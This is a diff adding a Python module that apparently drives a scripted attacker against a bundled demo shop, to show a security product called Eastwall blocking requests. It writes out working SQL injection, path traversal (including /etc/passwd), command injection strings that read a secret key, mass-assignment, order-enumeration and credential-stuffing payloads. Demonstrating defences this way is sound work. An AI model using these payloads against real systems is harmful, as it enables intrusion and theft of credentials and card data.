@@ -1,0 +1,234 @@
+"""The attacker: an ordinary customer account and eight things to do with it. What came back tells whether a step worked."""
+
+from __future__ import annotations
+
+import random
+import re
+from collections.abc import Callable, Sequence
+from typing import Any
+from urllib.parse import quote, urlencode
+
+from msgspec import Struct
+
+from eastwall.runtime.demo.catalog import BILLING_SECRET, CUSTOMERS, DEBUG_SECRET, EVERYBODY, MALLORY, digest_of
+from eastwall.runtime.demo.client import CallResult, Client, Targets
+
+ADDRESS = "127.66.6.6"
+"""Where the attacker calls from, on systems that let one choose."""
+_DIGITS = re.compile(r"\d{13,19}")
+
+
+class StepResult(Struct, frozen=True):
+    """One attack step and whether it worked."""
+
+    name: str
+    """e.g. `bola`."""
+    title: str
+    """One line for the screen."""
+    succeeded: bool
+    """The attacker got what the step is for. False: it was stopped (or the shop had nothing)."""
+    loot: str
+    """What was got, in a few words; no secret in full."""
+    sent: int
+    blocked: int
+    """Calls that Eastwall answered in the service's place."""
+    event_id: str = ""
+    """Of the first blocked call, for `eastwall why`."""
+
+
+class Attacker:
+    """Signs in, has a look round like anybody, then attacks. For one thread."""
+
+    def __init__(self, targets: Targets, on_result: Callable[[CallResult], None] | None = None, *, seed: int = 1) -> None:
+        self._client = Client(targets, label="attack", address=ADDRESS)
+        self._report = on_result or (lambda _: None)
+        self.random = random.Random(f"{seed}/attack")  # noqa: S311 - repeatable, not secret
+        self.order = 0
+        """The attacker's own order, from which the numbers of others are guessed."""
+        self._step = ""
+        self._results: list[CallResult] = []
+
+    def prepare(self) -> bool:
+        """What an ordinary customer does, and labelled so: sign in, order something, look at it. Whether signing in worked."""
+        call = self._honest
+        token = call("storefront", "POST", "/login", {"email": MALLORY.email, "password": MALLORY.password})
+        self._client.token = str((token.json or {}).get("access_token", "")) if token.ok else ""
+        call("storefront", "GET", "/me")
+        call("storefront", "GET", "/products?page=1")
+        call("storefront", "POST", "/cart/items", {"product_id": 3, "quantity": 1})
+        address = {"name": MALLORY.name, "street": "1 Quiet Way", "city": "Lyon", "zip": "69001"}
+        placed = call("storefront", "POST", "/checkout", {"address": address, "note": ""})
+        self.order = int((placed.json or {}).get("id", 0)) if placed.ok else 0
+        if self.order:
+            call("orders", "GET", f"/orders/{self.order}")
+        return bool(self._client.token)
+
+    def step(self, name: str) -> StepResult:
+        """Carry out one of STEPS. Raises KeyError for an unknown name."""
+        title, action = STEPS[name]
+        self._step, self._results = name, []
+        loot = action(self)
+        blocked = [result for result in self._results if result.blocked]
+        event = blocked[0].event_id if blocked else ""
+        return StepResult(name, title, bool(loot), loot, len(self._results), len(blocked), event)
+
+    def close(self) -> None:
+        self._client.close()
+
+    def _honest(self, service: str, method: str, path: str, body: Any = None) -> CallResult:
+        result = self._client.call("look round", service, method, path, body, label="legit")
+        self._report(result)
+        return result
+
+    def attack(self, service: str, method: str, path: str, body: Any = None) -> CallResult:
+        result = self._client.call(self._step, service, method, path, body)
+        self._results.append(result)
+        self._report(result)
+        return result
+
+
+def _got(result: CallResult) -> str:
+    """The text of a delivered answer, empty when there was none."""
+    return result.body.decode("utf-8", "replace") if 200 <= result.status < 300 and not result.blocked else ""
+
+
+def _recon(me: Attacker) -> str:
+    for path in ("/admin", "/api/v2/users", "/swagger.json", "/openapi.json", "/actuator/env", "/server-status", "/backup.zip"):
+        me.attack("storefront", "GET", path)
+    loot = []
+    if DEBUG_SECRET in _got(me.attack("storefront", "GET", "/debug/config")):
+        loot.append("the database password")
+    listed = _got(me.attack("storefront", "GET", "/v1/users"))
+    people = sum(person.email in listed for person in EVERYBODY)
+    if people:
+        loot.append(f"{people} accounts")
+    return " and ".join(loot)
+
+
+def _bola(me: Attacker) -> str:
+    start = me.order or 10_450
+    numbers = list(range(max(1, start - 24), start))
+    me.random.shuffle(numbers)
+    stolen = 0
+    for number in numbers[:16]:
+        answer = me.attack("orders", "GET", f"/orders/{number}")
+        order = answer.json if _got(answer) else None
+        stolen += isinstance(order, dict) and order.get("user_id") not in (None, MALLORY.id)
+    return f"{stolen} orders of other people" if stolen else ""
+
+
+def _mass_assignment(me: Attacker) -> str:
+    path = f"/users/{MALLORY.id}"
+    bodies: Sequence[dict[str, Any]] = (
+        {"display_name": MALLORY.name, "role": "admin"},
+        {"city": "Lyon", "role": "support", "credit": 5000},
+        {"credit": 900.0},
+    )
+    loot: set[str] = set()
+    for body in bodies:
+        record = me.attack("storefront", "PATCH", path, body).json
+        if isinstance(record, dict) and record.get("role") in ("admin", "support"):
+            loot.add(f"role {record['role']}")
+        if isinstance(record, dict) and isinstance(record.get("credit"), (int, float)) and record["credit"] > 0:
+            loot.add("credit")
+    return " and ".join(sorted(loot))
+
+
+def _sql_injection(me: Attacker) -> str:
+    union = "zzz' UNION SELECT 1, email, password_digest, 0 FROM users -- "
+    texts = (
+        union,
+        "zzz%' OR hidden = 1 -- ",
+        "zzz'/**/uNiOn/**/sElEcT/**/1,name,sql,4/**/FROM/**/sqlite_master--",
+        "zzz' OR 'a' LIKE 'a",
+        "zzz'||(SELECT password_digest FROM users LIMIT 1)||'",
+    )
+    loot: set[str] = set()
+    digests = {digest_of(person.password) for person in EVERYBODY}
+    for text in texts:
+        got = _got(me.attack("storefront", "GET", "/products/search?" + urlencode({"q": text})))
+        if any(digest in got for digest in digests):
+            loot.add("password digests")
+        if "Prototype lantern" in got:
+            loot.add("hidden products")
+        if "CREATE TABLE" in got:
+            loot.add("the schema")
+    return ", ".join(sorted(loot))
+
+
+def _path_traversal(me: Attacker) -> str:
+    climbs = (
+        "../secrets/billing.key",
+        "..%2fsecrets%2fbilling.key",
+        "statement-2026-01.csv/../../secrets/billing.key",
+        "x/../../secrets/billing.key",
+    )
+    got = [_got(me.attack("billing", "GET", "/invoices/export?file=" + (c if "%" in c else quote(c, safe="")))) for c in climbs]
+    got.append(_got(me.attack("billing", "GET", "/invoices/export?file=" + quote("../../../../etc/passwd", safe=""))))
+    return "the signing key of billing" if any(BILLING_SECRET in text for text in got) else ""
+
+
+def _command_injection(me: Attacker) -> str:
+    names = ("q3; cat secrets/billing.key", "q3 && id", "q3 | cat secrets/billing.key", "$(cat secrets/billing.key)", "`id`")
+    got = "".join(_got(me.attack("billing", "POST", "/reports", {"name": name})) for name in names)
+    loot = ["the signing key of billing"] if BILLING_SECRET in got else []
+    return " and ".join(loot + (["a shell"] if "uid=" in got else []))
+
+
+def _stuffing(me: Attacker) -> str:
+    """A leaked list: other people's passwords elsewhere, of which one was used again here."""
+    held, me._client.token = me._client.token, ""
+    pairs = [(f"{me.random.choice('abcdefghij')}{me.random.randint(10, 9999)}@mail.example", "sunshine1") for _ in range(38)]
+    pairs += [(person.email, f"{person.name.split()[0].lower()}{me.random.randint(1960, 2005)}") for person in CUSTOMERS[1:]]
+    me.random.shuffle(pairs)
+    victim = CUSTOMERS[0]
+    pairs.append((victim.email, victim.password))
+    entered = 0
+    for email, password in pairs:
+        answer = me.attack("storefront", "POST", "/login", {"email": email, "password": password})
+        entered += "access_token" in _got(answer)
+    me._client.token = held
+    return f"{entered} account" if entered else ""
+
+
+def _card_data(me: Attacker) -> str:
+    got = _got(me.attack("billing", "GET", "/v1/cards"))
+    numbers = {digits for digits in _DIGITS.findall(got) if any(person.card == digits for person in EVERYBODY)}
+    for person in me.random.sample(CUSTOMERS, 4):
+        answer = _got(me.attack("billing", "GET", f"/customers/{person.id}/cards"))
+        numbers.update(digits for digits in _DIGITS.findall(answer) if digits == person.card)
+    return f"{len(numbers)} card numbers" if numbers else ""
+
+
+STEPS: dict[str, tuple[str, Callable[[Attacker], str]]] = {
+    "recon": ("looks for forgotten endpoints", _recon),
+    "bola": ("reads other people's orders by counting", _bola),
+    "mass-assignment": ("makes itself admin through the profile form", _mass_assignment),
+    "sql-injection": ("asks the search box for the user table", _sql_injection),
+    "path-traversal": ("climbs out of the export directory", _path_traversal),
+    "command-injection": ("runs commands through a report's name", _command_injection),
+    "credential-stuffing": ("tries a leaked password list", _stuffing),
+    "card-data": ("pulls card numbers through the old API", _card_data),
+}
+"""Name -> (title, action), in the order of an attack. The action returns what it got, empty when nothing."""
+
+
+def run(
+    targets: Targets,
+    on_result: Callable[[CallResult], None] | None = None,
+    *,
+    seed: int = 1,
+    on_step: Callable[[StepResult], None] | None = None,
+) -> list[StepResult]:
+    """The whole attack. `on_step` is called after each step."""
+    attacker = Attacker(targets, on_result, seed=seed)
+    try:
+        attacker.prepare()
+        results = []
+        for name in STEPS:
+            results.append(attacker.step(name))
+            if on_step is not None:
+                on_step(results[-1])
+        return results
+    finally:
+        attacker.close()
